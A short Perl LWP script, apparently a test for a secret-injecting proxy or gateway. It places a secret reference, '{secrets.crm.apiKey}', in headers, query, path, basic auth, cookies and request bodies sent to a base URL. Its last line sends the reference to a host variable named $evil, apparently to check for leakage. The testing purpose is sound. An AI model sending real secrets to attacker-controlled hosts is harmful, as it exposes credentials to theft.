# Perl's LWP.
use strict;
use warnings;
use HTTP::Request::Common qw(GET POST);
use LWP::UserAgent;

my ($base, $evil) = @ARGV;
my $ref = '{secrets.crm.apiKey}';
my $agent = LWP::UserAgent->new;

sub ok {
    my $answer = $agent->request(@_);
    die $answer->status_line . ' ' . $answer->decoded_content if $answer->code != 200;
}

ok(GET "$base/header", 'X-Api-Key' => $ref);
ok(GET "$base/bearer", 'Authorization' => "Bearer $ref");
ok(GET "$base/query?k=$ref");
ok(GET "$base/path/$ref/x");
my $basic = GET "$base/basic";
$basic->authorization_basic('me', $ref);
ok($basic);
ok(GET "$base/cookie", 'Cookie' => "s=$ref");
ok(POST "$base/json", 'Content-Type' => 'application/json', Content => qq({"k":"$ref"}));
ok(POST "$base/form", { k => $ref });
ok(POST "$base/multipart", 'Content-Type' => 'form-data', Content => { k => $ref });
print $agent->request(GET "$evil/", 'X' => $ref)->decoded_content, "\n";
